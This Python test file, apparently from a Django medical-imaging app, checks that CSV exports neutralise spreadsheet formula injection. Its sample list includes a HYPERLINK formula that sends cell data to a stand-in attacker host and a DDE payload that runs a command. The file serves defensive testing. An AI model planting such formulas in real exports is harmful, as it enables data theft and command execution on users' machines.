"""No cell of a file for spreadsheets becomes a formula there (CWE-1236)."""

from __future__ import annotations

import ast
import csv
import io

import pytest
from django.conf import settings
from django.urls import reverse

from pneumoniapp.spreadsheets import csv_text
from tests.inference.factories import AnalysisFactory
from tests.patients.factories import PatientFactory

from .walk import by_session

APPS = ("accounts", "inference", "operations", "patients", "pneumoniapp", "radiology")
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\uff1d1", "\uff0b1",
    '=HYPERLINK("http://evil.example?"&A1)', "=cmd|' /C calc'!A0", '"=1', ";=1", ",=1",
    "\x00=1", "\u200b=1", "\u200e@A1",
]  # fmt: skip
STARTS = set("=+-@\t\r\n＝＋－＠")


def cells(text: str, delimiter: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text(formula, english):
    found = cells(csv_text([["a", formula, "b"]]), ",")
    assert len(found) == 3, "no cell is cut in two"
    assert found[1][:1] == "'" or found[1][:1] in set('";,'), "a text for every spreadsheet"


@pytest.mark.django_db
@pytest.mark.parametrize("formula", [f for f in FORMULAS if f.isprintable()])
def test_no_export_holds_one(doctor, formula):
    patient = PatientFactory(owner=doctor, identifier=formula)
    AnalysisFactory(radiograph__patient=patient)
    browser = by_session(doctor)
    for answer in (
        browser.post(reverse("inference:worklist_export"), {"what": "all"}),
        browser.get(reverse("inference:statistics_csv")),
    ):
        text = answer.getvalue().decode("utf-8-sig")
        assert "text/csv" in answer.headers["Content-Type"]
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert not [c for c in cells(text, ";") if c.lstrip()[:1] in STARTS]


def test_there_is_one_way_to_write_such_a_file():
    """``csv.writer`` stands where formulas are made harmless, and nowhere else."""
    found = {
        path.relative_to(settings.BASE_DIR).as_posix()
        for app in APPS
        for path in (settings.BASE_DIR / app).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter")
    }
    assert found == {"pneumoniapp/spreadsheets.py"}
